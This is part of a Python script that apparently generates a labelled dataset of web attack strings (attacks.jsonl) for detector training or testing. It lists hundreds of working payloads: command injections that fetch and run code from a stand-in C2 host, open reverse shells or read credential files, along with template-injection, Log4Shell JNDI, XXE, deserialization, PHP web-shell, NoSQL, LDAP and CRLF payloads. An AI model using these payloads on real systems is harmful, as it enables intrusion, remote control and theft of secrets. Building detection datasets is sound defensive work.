    ("win-net-user", "& net user svc_help Pa55w0rd!2024 /add & net localgroup administrators svc_help /add"),
    ("win-ping-delay", "| ping -n 15 127.0.0.1"),
    ("win-for-nslookup-oob", "& for /f %i in ('whoami') do nslookup %i.c2.attacker.example"),
    ("win-quote-break", "\" & type C:\\inetpub\\wwwroot\\web.config & \""),
    ("win-urlenc-newline", "x%0a dir C:\\"),
    ("win-cmd-quote-obf", "& c\"m\"d /c who\"am\"i"),
    ("win-wmic", "& wmic process call create \"powershell -w hidden -c iex(iwr http://%s/w.ps1)\"" % C2),
    ("win-env-substring", "& %COMSPEC:~0,1%%COMSPEC:~-7,3% /c type C:\\Windows\\win.ini"),
]
SEPS_UNIX = [("sep-semicolon", "%s; %s"), ("sep-pipe", "%s | %s"), ("sep-or", "%s || %s"), ("sep-and", "%s && %s"),
             ("sep-amp", "%s & %s"), ("sep-newline", "%s\n%s"), ("sep-urlenc-newline", "%s%%0a%s"), ("sep-urlenc-semicolon", "%s%%3B%s"),
             ("subst-dollar", "%s$(%s)"), ("subst-backtick", "%s`%s`"), ("sep-nospace-semicolon", "%s;%s")]
CTX_UNIX = ["127.0.0.1", "example.com", "notes.txt", "1", "", "google.com", "8.8.4.4", "backup.tar.gz", "user@example.com", "main"]
CMD_UNIX = ["id", "cat /etc/passwd", "uname -a;id", "curl -s http://%s/b.sh|sh" % C2, "wget http://%s/x -O /tmp/x;sh /tmp/x" % C2,
            "sleep 12", "nc %s 4444 -e /bin/bash" % C2, "cat /proc/self/environ", "ls -la /var/www", "whoami", "head -c 400 /app/.env",
            "tar czf - /home | curl -T - http://%s/up" % C2, "cat ~/.aws/credentials", "ps aux", "busybox nc %s 9001 -e sh" % C2]
SEPS_WIN = [("win-sep-amp", "%s & %s"), ("win-sep-and", "%s && %s"), ("win-sep-pipe", "%s | %s"), ("win-sep-or", "%s || %s"),
            ("win-sep-urlenc-amp", "%s%%26%s")]
CMD_WIN = ["whoami", "type C:\\Windows\\System32\\drivers\\etc\\hosts", "dir C:\\inetpub\\wwwroot", "net user", "ipconfig /all",
           "powershell -c \"iwr http://%s/x.ps1 -OutFile $env:TEMP\\x.ps1; & $env:TEMP\\x.ps1\"" % C2, "timeout /t 10",
           "cmd /c copy C:\\Windows\\repair\\SAM \\\\%s\\share\\" % C2]


def gen_cmdi():
    if R.random() < 0.72:
        cls, fmt = pick(SEPS_UNIX)
        cmd = pick(CMD_UNIX)
        if "urlenc" in cls:
            cmd = cmd.replace(" ", pick(["%20", "${IFS}", "%09"]))
        return cls, fmt % (pick(CTX_UNIX), cmd)
    cls, fmt = pick(SEPS_WIN)
    cmd = pick(CMD_WIN)
    if "urlenc" in cls:
        cmd = cmd.replace(" ", "%20")
    return cls, fmt % (pick(CTX_UNIX), cmd)


# ---------------------------------------------------------------------------
# Code / template injection, deserialization, EL, JNDI, XXE, NoSQL, LDAP, CRLF, SSI
# ---------------------------------------------------------------------------
_php_obj = 'O:9:"LogWriter":2:{%s%s%s%s}' % (php_s("path"), php_s("/var/www/html/uploads/x.php"), php_s("data"),
                                             php_s('<?php system($_GET["c"]); ?>'))
_pickle = b64(b"cos\nsystem\n(S'curl %s/p|sh'\ntR." % C2.encode())
_java_ser = b64(b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort\x00"
                b"\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00Borg.apache.commons.collections4.comparators.TransformingComparator"
                b"\x2f\xf9\x84\xf0\x2b\xb1\x08\xcc\x02\x00\x02L\x00\tdecoratedq\x00~\x00\x01L\x00\x0btransformert\x00"
                b"-Lorg/apache/commons/collections4/Transformer;xpt\x00\x0bcurl x|sh")
CODE = [
    ("jinja2-cycler-globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2-joiner-globals", "{{ joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("jinja2-subclasses-loop", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('curl " + C2 + "/j|sh').read() }}{% endif %}{% endfor %}"),
    ("jinja2-request-application", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("jinja2-attr-hex-filter", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("jinja2-config-leak", "{{ config.items() }}"),
    ("jinja2-lipsum-globals", "{{ lipsum.__globals__['os'].popen('whoami').read() }}"),
    ("jinja2-request-args-bypass", "{{ request|attr(request.args.c)|attr(request.args.g) }}"),
    ("jinja2-in-json", "{\"display_name\": \"{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}\"}"),
    ("twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("twig-undefined-filter-callback", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('curl " + C2 + "/t|sh')}}"),
    ("twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("freemarker-objectconstructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"sh\",\"-c\",\"id\"]).start()}"),
    ("velocity-runtime", "#set($rt=$class.inspect('java.lang.Runtime').type.getRuntime())#set($p=$rt.exec('touch /tmp/v'))$p.waitFor()"),
    ("velocity-forname", "#set($s=\"\")#set($c=$s.getClass().forName(\"java.lang.Runtime\"))$c.getRuntime().exec(\"id\")"),
    ("erb-backtick", "<%= `cat /etc/passwd` %>"),
    ("erb-system", "<%= system('curl -s http://" + C2 + "/e | bash') %>"),
    ("erb-file-read", "<%= File.read('/app/config/master.key') %>"),
    ("ruby-interpolation", "#{`id`}"),
    ("handlebars-lookup-constructor", "{{#with (lookup this \"constructor\") as |c|}}{{#with (lookup c \"constructor\") as |F|}}{{F \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}"),
    ("smarty-system", "{system('id')}"),
    ("smarty-php-tag", "{php}echo shell_exec('cat /etc/passwd');{/php}"),
    ("smarty-if", "{if system('curl " + C2 + "/s|sh')}{/if}"),
    ("mako-import", "<%import os%>${os.popen('id').read()}"),
    ("mako-expr", "${__import__('subprocess').check_output(['cat','/etc/passwd'])}"),
    ("thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/t')}__::.x"),
    ("spel-processbuilder", "${new java.lang.ProcessBuilder(new String[]{'sh','-c','curl " + C2 + "|sh'}).start()}"),
    ("spel-T-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-member-access", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('touch /tmp/o'))}"),
    ("el-session-tamper", "${pageContext.request.getSession().setAttribute(\"admin\",true)}"),
    ("el-reflection-runtime", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"),
    ("pug-interp", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ejs-output", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")"),
    ("groovy-execute", "${\"id\".execute().text}"),
    ("jndi-ldap", "${jndi:ldap://" + C2 + ":1389/Exploit}"),
    ("jndi-lower-obfusc", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://c2.attacker.example/a}"),
    ("jndi-default-value", "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://" + C2 + ":1099/o}"),
    ("jndi-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.c2.attacker.example/x}"),
    ("jndi-upper-sysprop", "${${upper:j}ndi:ldaps://c2.attacker.example/${sys:java.version}}"),
    ("jndi-in-text", "Mozilla/5.0 ${jndi:ldap://c2.attacker.example/ua}"),
    ("jndi-urlenc", "%24%7Bjndi%3Aldap%3A%2F%2F" + C2 + "%3A1389%2Fa%7D"),
    ("jndi-date-lookup", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://c2.attacker.example/d}"),
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
    ("xxe-oob-param", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY % e SYSTEM \"http://" + C2 + "/e.dtd\"> %e; %p; %x;]><d/>"),
    ("xxe-php-filter", "<!DOCTYPE foo [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/html/config.php\">]><invoice><note>&f;</note></invoice>"),
    ("xinclude", "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></root>"),
    ("svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY s SYSTEM \"file:///proc/self/environ\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"50\"><text y=\"20\">&s;</text></svg>"),
    ("xxe-ssrf-metadata", "<!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><r>&m;</r>"),
    ("xxe-entity-expansion", "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;&d;&d;&d;</l>"),
    ("php-unserialize-object", _php_obj),
    ("php-unserialize-array-wrap", "a:1:{i:0;%s}" % _php_obj),
    ("python-pickle-b64", _pickle),
    ("python-pickle-raw", "cposix\nsystem\n(S'id'\ntR."),
    ("java-serialized-b64", _java_ser),
    ("yaml-python-apply", "!!python/object/apply:os.system ['curl -s " + C2 + "/y | sh']"),
    ("yaml-python-new-subprocess", "!!python/object/new:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + C2 + "/yaml-payload.jar\"]]]]"),
    ("yaml-ruby-object", "--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::Package::TarReader\n  io: !ruby/object:Net::WriteAdapter\n    socket: !ruby/module 'Kernel'\n    method_id: :system\n  git_set: \"curl " + C2 + "/r|sh\""),
    ("dotnet-json-type", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd.exe\",\"/c powershell -w hidden -c iwr http://" + C2 + "/d.ps1|iex\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("node-serialize-iife", "{\"profile\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl " + C2 + "/n|sh')}()\"}"),
    ("jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://" + C2 + ":1389/obj\",\"autoCommit\":true}]"),
    ("fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://" + C2 + ":1099/Exploit\",\"autoCommit\":true}"),
    ("node-child-process", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("node-mainmodule", "process.mainModule.require('child_process').exec('bash -c \"bash -i >& /dev/tcp/" + C2 + "/4444 0>&1\"')"),
    ("prototype-pollution-proto", "{\"__proto__\":{\"isAdmin\":true,\"role\":\"superuser\"}}"),
    ("prototype-pollution-constructor", "{\"constructor\":{\"prototype\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}}"),
    ("prototype-pollution-query", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("php-system-tag", "<?php system($_REQUEST['cmd']); ?>"),
    ("php-short-echo-backtick", "<?=`$_GET[0]`?>"),
    ("php-eval-base64", "eval(base64_decode('%s'));" % b64("system('id');")),
    ("php-expect-wrapper", "expect://id"),
    ("php-data-wrapper", "data://text/plain;base64,%s" % b64("<?php phpinfo(); ?>")),
    ("python-eval-import", "__import__('os').system('curl " + C2 + "/py|sh')"),
    ("python-subclasses-index", "().__class__.__bases__[0].__subclasses__()[140].__init__.__globals__['popen']('id').read()"),
    ("python-exec-compile", "exec(compile(__import__('base64').b64decode('%s'),'<s>','exec'))" % b64("import os;os.system('id')")),
    ("ruby-instance-eval", "instance_eval('IO.popen(\"id\").read')"),
    ("java-runtime-exec", "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"curl " + C2 + "/j|bash\"});"),
    ("nosql-ne", "{\"username\": \"admin\", \"password\": {\"$ne\": null}}"),
    ("nosql-gt", "{\"$gt\": \"\"}"),
    ("nosql-regex", "{\"$regex\": \"^adm.*\", \"$options\": \"i\"}"),
    ("nosql-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("nosql-js-string-breakout", "'; return true; var x='"),
    ("nosql-or-breakout", "admin' || '1'=='1"),
    ("nosql-bracket-param", "user[$ne]=nobody&pass[$ne]=nobody"),
    ("nosql-aggregate-lookup", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"owner\",\"foreignField\":\"_id\",\"as\":\"u\"}},{\"$project\":{\"u.password\":1}}]"),
    ("nosql-where-function", "{\"$where\": \"function(){ return this.password.match(/^a/) != null; }\"}"),
    ("ldap-wildcard-close", "*)(uid=*))(|(uid=*"),
    ("ldap-and-password", "admin)(&(userPassword=*))"),
    ("ldap-objectclass", "*)(objectClass=*"),
    ("ldap-memberof", "x*)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local)"),
    ("ldap-blind-attr", "admin)(|(description=pass*)"),
    ("xpath-union", "']|//user/password|//x['"),
    ("xpath-count-blind", "' or count(//user[name='admin']/password[starts-with(.,'a')])=1 or 'x'='y"),
    ("crlf-set-cookie", "%0d%0aSet-Cookie:%20session=attacker_controlled;%20Path=/"),
    ("crlf-location", "/home\r\nLocation: https://evil.example/login\r\n"),
    ("crlf-response-split", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("crlf-unicode-overlong", "%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("crlf-lf-only", "/%0aX-Forwarded-Host:%20evil.example"),
    ("crlf-email-bcc", "victim@example.com%0aBcc:%20list@attacker.example"),
    ("crlf-email-raw", "Hello\r\nBcc: everyone@attacker.example\r\nSubject: Reset your password"),
    ("crlf-double-urlenc", "%250d%250aSet-Cookie:%2520sid=fixated"),
    ("ssi-exec", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
    ("ssi-include", "<!--#include virtual=\"/../../etc/shadow\" -->"),
    ("ssi-exec-cgi", "<!--#exec cgi=\"/cgi-bin/printenv.pl\" -->"),
    ("esi-include", "<esi:include src=\"http://" + C2 + "/esi.html\"/>"),
    ("esi-cookie-leak", "<esi:include src=\"http://c2.attacker.example/?c=$(HTTP_COOKIE)\"/>"),
]
CODE_TX = [("urlenc", urlenc), ("double-urlenc", double_urlenc), ("urlenc-min", urlenc_min)]


def build(cat, hand, tx=None, gen=None, max_hand=None):
    target = TARGETS[cat]
    hand_cap = max_hand or target
    out, seen = [], set()

    def add(cls, v):
        if v in seen or len(v) > 1500:
            return False
        seen.add(v)
        out.append((cls, v))
        return True

    hand = list(hand)
    R.shuffle(hand)
    for cls, v in hand:
        if len(out) >= hand_cap:
            break
        add(cls, v)
    tries = 0
    while len(out) < target and tries < 10000:
        tries += 1
        if gen is not None and (tx is None or R.random() < 0.8):
            cls, v = gen()
        else:
            base_cls, base = pick(hand)
            tname, fn = pick(tx)
            if "urlenc" in tname and re.search(r"%[0-9a-fA-F]{2}|%u[0-9a-fA-F]{4}", base):
                continue
            v = fn(base)
            if v == base:
                continue
            cls = "%s+%s" % (base_cls, tname)
        add(cls, v)
    return [(cat, c, v) for c, v in out]


def main():
    rows = []
    rows += build("sqli", SQLI, SQLI_TX)
    rows += build("xss", XSS, XSS_TX)
    rows += build("traversal", TRAV, None, gen_traversal)
    rows += build("cmdi", CMDI, None, gen_cmdi)
    rows += build("code", CODE, CODE_TX, max_hand=88)
    R.shuffle(rows)
    path = os.path.join(HERE, "attacks.jsonl")
    with open(path, "w", encoding="utf-8") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            fh.write(json.dumps({"id": "ha12-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v},
                                ensure_ascii=False) + "\n")
    print("wrote %d rows to %s" % (len(rows), path))


if __name__ == "__main__":
    main()
